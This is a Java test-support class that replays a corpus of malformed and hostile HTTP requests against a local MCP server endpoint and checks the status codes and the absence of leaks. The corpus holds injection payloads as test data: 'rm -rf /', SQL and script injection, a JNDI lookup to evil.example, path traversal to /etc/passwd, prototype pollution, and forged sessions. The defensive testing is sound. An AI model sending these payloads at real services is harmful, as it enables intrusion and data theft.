package dev.mcpfusion.http.hostile;

import static dev.mcpfusion.http.hostile.HostileRequest.modern;
import static dev.mcpfusion.http.hostile.HostileRequest.post;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;

/**
 * The hostile HTTP corpus: requests a careless or malicious client sends to an MCP endpoint
 * (malformed, truncated and deeply nested JSON, batches, wrong types, huge ids, wrong or missing
 * headers, forged sessions, hostile {@code Last-Event-ID}, foreign Host and Origin, oversized
 * bodies, injection-shaped arguments, unknown tools and methods, both protocol eras), each with
 * the status the endpoint answers. Replayed over a raw socket, so nothing is normalised on the
 * way (a foreign {@code Host} is sent as is), one connection per request.
 *
 * <p>The endpoint under test must cap bodies at {@link #MAX_BODY_BYTES}. The replaying test fills
 * these placeholders:
 * <ul>
 *   <li>{@code {port}}: the endpoint's port;
 *   <li>{@code {session}}: a live 2025-era session of the caller;
 *   <li>{@code {foreign-session}}: a session id the caller may not use (another caller's, or one
 *       that was closed);
 *   <li>{@code {tool}}, {@code {arg}}: a tool the caller may call and the name of its string argument.
 * </ul>
 */
public final class HostileCorpus {
  /** The body cap the endpoint under test is configured with. */
  public static final int MAX_BODY_BYTES = 256 * 1024;

  static final String META = "\"_meta\":{\"io.modelcontextprotocol/protocolVersion\":\"2026-07-28\","
      + "\"io.modelcontextprotocol/clientCapabilities\":{}}";

  private HostileCorpus() {}

  private static String modernCall(String tool, String arguments) {
    return "{\"jsonrpc\":\"2.0\",\"id\":7,\"method\":\"tools/call\",\"params\":{\"name\":\"" + tool
        + "\",\"arguments\":" + arguments + "," + META + "}}";
  }

  private static String modernRequest(String method, String params) {
    return "{\"jsonrpc\":\"2.0\",\"id\":8,\"method\":\"" + method + "\",\"params\":{" + params
        + (params.isEmpty() ? "" : ",") + META + "}}";
  }

  private static String classicCall(String tool, String arguments) {
    return "{\"jsonrpc\":\"2.0\",\"id\":9,\"method\":\"tools/call\",\"params\":{\"name\":\"" + tool
        + "\",\"arguments\":" + arguments + "}}";
  }

  private static HostileRequest callTool(String name, String arguments) {
    return modern(name, "tools/call", "{tool}", modernCall("{tool}", arguments));
  }

  private static HostileRequest inSession(String name, String body) {
    return post(name, body).session("{session}").with("MCP-Protocol-Version", "2025-11-25");
  }

  private static HostileRequest resume(String name, String lastEventId) {
    return post(name, null).method("GET").without("Content-Type").with("Accept", "text/event-stream")
        .session("{session}").with("Last-Event-ID", lastEventId);
  }

  /** A well-formed 2026-07-28 call of {@code {tool}} with {@code {arg}} "still serving": the request after the corpus. */
  public static HostileRequest goodCall() {
    return callTool("a good call", "{\"{arg}\":\"still serving\"}").expect(200);
  }

  /** Every request of the corpus, in order. */
  public static List<HostileRequest> requests() {
    String init = "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\",\"params\":{\"protocolVersion\":"
        + "\"2025-11-25\",\"capabilities\":{},\"clientInfo\":{\"name\":\"%s\",\"version\":\"1\"}}}";
    String good = modernCall("{tool}", "{\"{arg}\":\"fine\"}");
    return List.of(
        // ---- the body is not a JSON-RPC request ----
        modern("truncated JSON", "tools/call", "{tool}", "{\"jsonrpc\":\"2.0\",\"id\":5,\"method\":").expect(400),
        modern("not JSON", "tools/call", "{tool}", "hello, server").expect(400),
        modern("empty body", "tools/call", "{tool}", "").expect(400),
        modern("invalid UTF-8", "tools/call", "{tool}", null)
            .body(new byte[] {'{', '"', (byte) 0xC3, (byte) 0x28, '"', ':', '1', '}'}).expect(400),
        modern("a batch", "tools/call", "{tool}", "[" + good + "," + good + "]").expect(400),
        modern("an empty batch", "tools/call", "{tool}", "[]").expect(400),
        modern("a number", "tools/call", "{tool}", "42").expect(400),
        modern("a string", "tools/call", "{tool}", "\"tools/call\"").expect(400),
        modern("null", "tools/call", "{tool}", "null").expect(400),
        modern("method of the wrong type", "tools/call", "{tool}", "{\"id\":3,\"method\":7}").expect(400),
        modern("an object as id", "ping", null,
            "{\"jsonrpc\":\"2.0\",\"id\":{\"a\":1},\"method\":\"ping\",\"params\":{" + META + "}}").expect(400),
        modern("100k-deep arrays", "tools/call", "{tool}", "[".repeat(100_000) + "]".repeat(100_000)).expect(400),
        modern("50k-deep objects", "tools/call", "{tool}", "{\"\":".repeat(50_000) + "1" + "}".repeat(50_000))
            .expect(400),
        modern("deep arguments", "tools/call", "{tool}",
            modernCall("{tool}", "{\"{arg}\":" + "[".repeat(50_000) + "]".repeat(50_000) + "}")).expect(400),
        modern("jsonrpc 1.0", "tools/call", "{tool}", modernCall("{tool}", "{}").replace("\"2.0\"", "\"1.0\""))
            .expect(400),
        modern("an empty method", "", null, modernRequest("", "")).expect(404),
        modern("a response sent as a request", "tools/call", "{tool}",
            "{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{}}").expect(400),
        // ---- ids and params of the wrong shape ----
        modern("an id past every integer", "tools/call", "{tool}",
            good.replace("\"id\":7", "\"id\":123456789012345678901234567890")).expect(200),
        modern("an id of 1e400", "tools/call", "{tool}", good.replace("\"id\":7", "\"id\":1e400")).expect(200),
        modern("a 10k-character string id", "tools/call", "{tool}",
            good.replace("\"id\":7", "\"id\":\"" + "i".repeat(10_000) + "\"")).expect(200),
        modern("a tool name of the wrong type", "tools/call", "7",
            "{\"jsonrpc\":\"2.0\",\"id\":11,\"method\":\"tools/call\",\"params\":{\"name\":7," + META + "}}")
            .expect(400),
        modern("params as an array", "tools/call", "{tool}",
            "{\"jsonrpc\":\"2.0\",\"id\":12,\"method\":\"tools/call\",\"params\":[1,2]}").expect(400),
        callTool("arguments as a string", "\"rm -rf /\"").expect(400).canary("rm -rf"),
        callTool("an argument of the wrong type", "{\"{arg}\":{\"$ne\":1}}").expect(200).canary("$ne"),
        callTool("an argument of 100k elements", "{\"{arg}\":[" + "1,".repeat(100_000) + "1]}").expect(200),
        callTool("injection-shaped argument", "{\"{arg}\":\"'; DROP TABLE entries; -- <script>alert(1)</script>"
            + " {{7*7}} ${jndi:ldap://evil.example/a}\"}").expect(200),
        callTool("unknown arguments", "{\"{arg}\":\"x\",\"__proto__\":{\"admin\":true},\"constructor\":1}")
            .expect(200),
        modern("an unknown tool", "tools/call", "drop_all_tables", modernCall("drop_all_tables", "{}")).expect(400),
        modern("an unknown method", "no/such", null, modernRequest("no/such", "")).expect(404),
        modern("a hostile list cursor", "tools/list", null,
            modernRequest("tools/list", "\"cursor\":\"../../etc/passwd\"")).expect(200),
        callTool("a progress token of the wrong type", "{\"{arg}\":\"x\"}")
            .body(modernCall("{tool}", "{\"{arg}\":\"x\"}").replace("\"_meta\":{",
                "\"_meta\":{\"progressToken\":{\"$gt\":\"\"},").getBytes(StandardCharsets.UTF_8)).expect(200),
        modern("a bogus protocol version in _meta", "tools/call", "{tool}",
            good.replace("\"2026-07-28\"", "\"2099-01-01\"")).expect(400),
        // ---- the 2026-07-28 standard headers ----
        modern("Mcp-Method missing", "tools/call", "{tool}", good).without("Mcp-Method").expect(400),
        modern("Mcp-Method disagreeing", "tools/list", "{tool}", good).expect(400),
        modern("Mcp-Name disagreeing", "tools/call", "other_tool", good).expect(400),
        modern("Mcp-Name missing", "tools/call", null, good).expect(400),
        modern("an unsupported MCP-Protocol-Version", "tools/call", "{tool}", good)
            .with("MCP-Protocol-Version", "1999-01-01").expect(400),
        modern("an injection-shaped MCP-Protocol-Version", "tools/call", "{tool}", good)
            .with("MCP-Protocol-Version", "<script>alert(1)</script>" + "v".repeat(2000)).expect(400)
            .canary("v".repeat(101)),
        modern("the 2025 header on a 2026 message", "tools/call", "{tool}", good)
            .with("MCP-Protocol-Version", "2025-11-25").expect(400),
        // ---- Content-Type and Accept ----
        modern("Content-Type text/plain", "tools/call", "{tool}", good).with("Content-Type", "text/plain").expect(415),
        modern("no Content-Type", "tools/call", "{tool}", good).without("Content-Type").expect(415),
        modern("Content-Type form", "tools/call", "{tool}", good)
            .with("Content-Type", "application/x-www-form-urlencoded").expect(415),
        modern("Accept text/html", "tools/call", "{tool}", good).with("Accept", "text/html").expect(406),
        // ---- methods ----
        modern("PUT with a body", "tools/call", "{tool}", good).method("PUT").expect(405),
        modern("PATCH with a body", "tools/call", "{tool}", good).method("PATCH").expect(405),
        post("DELETE with a body and a forged session", good).method("DELETE").session("forged-session-0001")
            .expect(404).canary("forged-session-0001"),
        post("DELETE without a session", good).method("DELETE").expect(400),
        post("GET with a body and no session", good).method("GET").with("Accept", "text/event-stream").expect(400),
        post("GET not accepting an event stream", null).method("GET").session("{session}")
            .with("Accept", "application/json").expect(406),
        // ---- sessions (2025 era) ----
        post("a call without a session", classicCall("{tool}", "{\"{arg}\":\"x\"}")).expect(400),
        post("a forged session", classicCall("{tool}", "{\"{arg}\":\"x\"}")).session("f0f0f0f0-forged-session")
            .expect(404).canary("f0f0f0f0-forged"),
        post("a 4k-character session id", classicCall("{tool}", "{}")).session("s".repeat(4096)).expect(404)
            .canary("s".repeat(64)),
        post("another caller's session", classicCall("{tool}", "{\"{arg}\":\"x\"}")).session("{foreign-session}")
            .expect(404),
        inSession("an unsupported protocol version in a session", classicCall("{tool}", "{\"{arg}\":\"x\"}"))
            .with("MCP-Protocol-Version", "1999-01-01").expect(400),
        inSession("a bad log level in a session", "{\"jsonrpc\":\"2.0\",\"id\":14,\"method\":\"logging/setLevel\","
            + "\"params\":{\"level\":[1,2]}}").expect(200),
        inSession("a 2026 message in a session", good).expect(400),
        post("initialize with an injection-shaped client name",
            String.format(init, "<img src=x onerror=alert(1)>")).expect(200),
        post("initialize of an unknown version", String.format(init, "c").replace("2025-11-25", "1999-01-01"))
            .expect(200),
        // ---- Last-Event-ID ----
        resume("a path as Last-Event-ID", "../../../etc/passwd").expect(400).canary("etc/passwd"),
        resume("markup as Last-Event-ID", "<script>alert(1)</script>").expect(400).canary("<script>"),
        resume("a 4k-character Last-Event-ID", "e".repeat(4000)).expect(400).canary("e".repeat(64)),
        resume("an overflowing Last-Event-ID", "a1b2c3d4.99999999999999999999-1").expect(400)
            .canary("99999999999999999999"),
        // ---- size ----
        modern("a body over the cap", "tools/call", "{tool}",
            modernCall("{tool}", "{\"{arg}\":\"" + "x".repeat(MAX_BODY_BYTES) + "\"}")).expect(413)
            .canary("x".repeat(64)),
        // ---- refused before authentication, whoever calls ----
        modern("a foreign Host", "tools/call", "{tool}", good).with("Host", "evil.example").beforeAuth(403),
        modern("a loopback Host at another port", "tools/call", "{tool}", good).with("Host", "localhost:1")
            .beforeAuth(403),
        modern("a foreign Origin", "tools/call", "{tool}", good).with("Origin", "http://evil.example")
            .beforeAuth(403),
        modern("Origin null", "tools/call", "{tool}", good).with("Origin", "null").beforeAuth(403),
        modern("a CORS preflight with a body", "tools/call", "{tool}", good).method("OPTIONS")
            .with("Origin", "http://127.0.0.1:{port}").beforeAuth(204));
  }

  /**
   * Replays the corpus as a caller the endpoint lets in ({@code authorization} its credentials,
   * or none when auth is off): every request gets its {@link HostileRequest#expected()} status.
   * Returns what was wrong, one line per problem (empty: the corpus passed).
   */
  public static List<String> replayAdmitted(int port, String authorization, Map<String, String> values)
      throws IOException {
    return replay(port, authorization, values, null);
  }

  /**
   * Replays the corpus anonymously against an endpoint with auth on: every request gets
   * {@code 401} with a {@code WWW-Authenticate} containing {@code challenge}, and its body is not
   * echoed, but for the refusals every caller gets first ({@link HostileRequest#preAuth()}).
   * Returns what was wrong, one line per problem (empty: the corpus passed).
   */
  public static List<String> replayAnonymous(int port, Map<String, String> values, String challenge)
      throws IOException {
    return replay(port, null, values, challenge);
  }

  private static List<String> replay(int port, String authorization, Map<String, String> values,
      String challenge) throws IOException {
    List<String> problems = new ArrayList<>();
    for (HostileRequest request : requests()) {
      Answer answer = send(port, request, authorization, values);
      String everything = answer.everything();
      int expected = challenge == null ? request.expected()
          : request.preAuth() != 0 ? request.preAuth() : 401;
      String at = request + ": ";
      if (answer.status() != expected) {
        problems.add(at + "expected " + expected + ", got " + answer.status() + " "
            + answer.body().substring(0, Math.min(300, answer.body().length())));
      }
      if (answer.status() >= 500) {
        problems.add(at + "a server error");
      }
      if (challenge != null && answer.status() == 401 && !answer.headers()
          .getOrDefault("www-authenticate", "").contains(challenge)) {
        problems.add(at + "401 without the challenge " + challenge + ": " + answer.headers());
      }
      if (challenge != null && request.body() != null && request.body().length > 24) {
        String sent = HostileRequest.fill(new String(request.body(), StandardCharsets.UTF_8), values);
        int middle = sent.length() / 2;
        if (everything.contains(sent.substring(middle - 12, middle + 12))) {
          problems.add(at + "the body is echoed to an anonymous caller");
        }
      }
      if (request.canary() != null && everything.contains(request.canary())) {
        problems.add(at + "echoes " + request.canary());
      }
      String credential = authorization == null ? null : authorization.substring(authorization.indexOf(' ') + 1);
      if (credential != null && everything.contains(credential)) {
        problems.add(at + "echoes the credentials");
      }
      for (String leak : List.of("Exception", "at dev.", "at java.", "stackTrace", "jetty", "Jetty")) {
        if (everything.contains(leak)) {
          problems.add(at + "leaks '" + leak + "': " + everything);
        }
      }
      if (answer.headers().containsKey("server")) {
        problems.add(at + "names the server: " + answer.headers().get("server"));
      }
      String type = answer.headers().getOrDefault("content-type", "");
      if (!answer.body().isEmpty() && !type.startsWith("application/json") && !type.startsWith("text/event-stream")) {
        problems.add(at + "a body that is not JSON: " + type);
      }
    }
    return problems;
  }

  /**
   * Opens a 2025-era session ({@code initialize}, then {@code notifications/initialized}) with
   * {@code authorization} (none when null); returns its id.
   */
  public static String openSession(int port, String authorization) throws IOException {
    Answer init = send(port, post("initialize", "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\","
        + "\"params\":{\"protocolVersion\":\"2025-11-25\",\"capabilities\":{},"
        + "\"clientInfo\":{\"name\":\"corpus\",\"version\":\"1\"}}}"), authorization, Map.of());
    String session = init.headers().get("mcp-session-id");
    if (init.status() != 200 || session == null) {
      throw new IOException("initialize answered " + init.everything());
    }
    Answer initialized = send(port, post("initialized", "{\"jsonrpc\":\"2.0\",\"method\":"
        + "\"notifications/initialized\"}").session(session).with("MCP-Protocol-Version", "2025-11-25"),
        authorization, Map.of());
    if (initialized.status() != 202) {
      throw new IOException("notifications/initialized answered " + initialized.everything());
    }
    return session;
  }

  /** Ends {@code session} with {@code DELETE}. */
  public static void closeSession(int port, String authorization, String session) throws IOException {
    Answer deleted = send(port, post("delete", null).method("DELETE").without("Content-Type").session(session),
        authorization, Map.of());
    if (deleted.status() != 204) {
      throw new IOException("DELETE answered " + deleted.everything());
    }
  }

  /** The answer to one request. */
  public record Answer(int status, Map<String, String> headers, String body) {
    /** The status line, headers and body: everything the client got. */
    public String everything() {
      return status + " " + headers + " " + body;
    }
  }

  /**
   * Sends {@code request} to {@code 127.0.0.1:port} on a connection of its own, with
   * {@code authorization} as the {@code Authorization} header (none when null) and the
   * placeholders filled from {@code values}; returns the answer once the server has closed the
   * connection.
   */
  public static Answer send(int port, HostileRequest request, String authorization, Map<String, String> values)
      throws IOException {
    Map<String, String> all = new LinkedHashMap<>(values);
    all.put("port", Integer.toString(port));
    StringBuilder head = new StringBuilder(request.method()).append(' ')
        .append(HostileRequest.fill(request.path(), all)).append(" HTTP/1.1\r\n");
    if (!request.has("Host")) {
      head.append("Host: 127.0.0.1:").append(port).append("\r\n");
    }
    for (String[] header : request.headers()) {
      head.append(header[0]).append(": ").append(HostileRequest.fill(header[1], all)).append("\r\n");
    }
    if (authorization != null) {
      head.append("Authorization: ").append(authorization).append("\r\n");
    }
    byte[] body = request.body() == null ? new byte[0]
        : HostileRequest.fill(new String(request.body(), StandardCharsets.ISO_8859_1), all)
            .getBytes(StandardCharsets.ISO_8859_1);
    if (request.body() != null) {
      head.append("Content-Length: ").append(body.length).append("\r\n");
    }
    head.append("Connection: close\r\n\r\n");
    try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
      socket.setSoTimeout(30_000);
      OutputStream out = socket.getOutputStream();
      out.write(head.toString().getBytes(StandardCharsets.UTF_8));
      out.write(body);
      out.flush();
      return read(socket.getInputStream(), request);
    }
  }

  private static Answer read(InputStream in, HostileRequest request) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    byte[] buffer = new byte[8192];
    try {
      for (int n = in.read(buffer); n > 0; n = in.read(buffer)) {
        bytes.write(buffer, 0, n);
      }
    } catch (SocketTimeoutException e) {
      throw new IOException("No complete answer within 30 s to " + request
          + "; received: " + bytes.toString(StandardCharsets.UTF_8), e);
    }
    // One char per byte until the body is cut out (chunk sizes count bytes), then UTF-8.
    String text = bytes.toString(StandardCharsets.ISO_8859_1);
    int split = text.indexOf("\r\n\r\n");
    if (split < 0) {
      throw new IOException("No HTTP answer to " + request + "; received: " + text);
    }
    String[] lines = text.substring(0, split).split("\r\n");
    Map<String, String> headers = new LinkedHashMap<>();
    for (int i = 1; i < lines.length; i++) {
      int colon = lines[i].indexOf(':');
      headers.merge(lines[i].substring(0, colon).trim().toLowerCase(Locale.ROOT),
          lines[i].substring(colon + 1).trim(), (a, b) -> a + ", " + b);
    }
    String body = text.substring(split + 4);
    if ("chunked".equalsIgnoreCase(headers.get("transfer-encoding"))) {
      body = dechunk(body);
    }
    return new Answer(Integer.parseInt(lines[0].split(" ")[1]), headers,
        new String(body.getBytes(StandardCharsets.ISO_8859_1), StandardCharsets.UTF_8));
  }

  private static String dechunk(String chunked) {
    StringBuilder body = new StringBuilder();
    int at = 0;
    while (at < chunked.length()) {
      int end = chunked.indexOf("\r\n", at);
      int size = Integer.parseInt(chunked.substring(at, end).split(";")[0].trim(), 16);
      if (size == 0) {
        break;
      }
      body.append(chunked, end + 2, end + 2 + size);
      at = end + 2 + size + 2;
    }
    return body.toString();
  }
}
